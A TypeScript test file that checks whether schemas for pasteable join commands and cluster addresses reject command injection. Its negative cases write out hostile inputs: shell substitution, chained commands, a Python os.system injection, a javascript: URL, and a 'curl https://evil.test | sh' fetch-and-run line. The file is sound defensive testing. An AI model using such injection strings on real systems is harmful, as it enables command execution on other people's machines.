/** S20, S25: text that the command line prints for a person to paste comes from the control plane, so it has one form. */
import { describe, expect, test } from 'vitest'
import { Cluster } from '../wire/cluster.ts'
import { JoinCommand, JoinToken } from '../wire/node.ts'

const { ray_address, dashboard_url } = Cluster.shape
const { command } = JoinToken.shape
const { command: proven } = JoinCommand.shape
const ca = 'a1'.repeat(32)

describe('text that may be pasted', () => {
  test.each([
    ['an address of Ray', ray_address, 'ray://10.0.0.1:10001'],
    ['one by IPv6', ray_address, 'ray://[2001:db8::1]:10001'],
    ['none', ray_address, null],
    ['a dashboard', dashboard_url, 'http://127.0.0.1:8265'],
    ['a join', command, 'fairlead agent join --host https://fairlead.example.com:8470 --provider aws'],
    ['a join by proof', proven, `fairlead agent join --host https://x:8470 --provider aws --cloud a --ca-sha256 ${ca}`],
  ])('%s', (_, schema, text) => expect(schema.safeParse(text).success).toBe(true))

  test.each([
    ['Python', ray_address, "ray://x'); import os; os.system('id') #"],
    ['a shell', ray_address, 'ray://$(id):10001'],
    ['an end of a quote', ray_address, 'ray://10.0.0.1:10001"; id; "'],
    ['another scheme', dashboard_url, 'javascript:alert(1)'],
    ['a second command', command, 'fairlead agent join --host https://x --provider aws; id'],
    ['a second line', command, 'fairlead agent join --host https://x --provider aws\nid'],
    ['another command', command, 'curl https://evil.test | sh'],
    ['a command as a cloud', proven, 'fairlead agent join --host https://x --provider aws --cloud $(id)'],
    [
      'a command after a CA',
      proven,
      `fairlead agent join --host https://x --provider aws --cloud a --ca-sha256 ${ca};id`,
    ],
  ])('not %s', (_, schema, text) => expect(schema.safeParse(text).success).toBe(false))
})
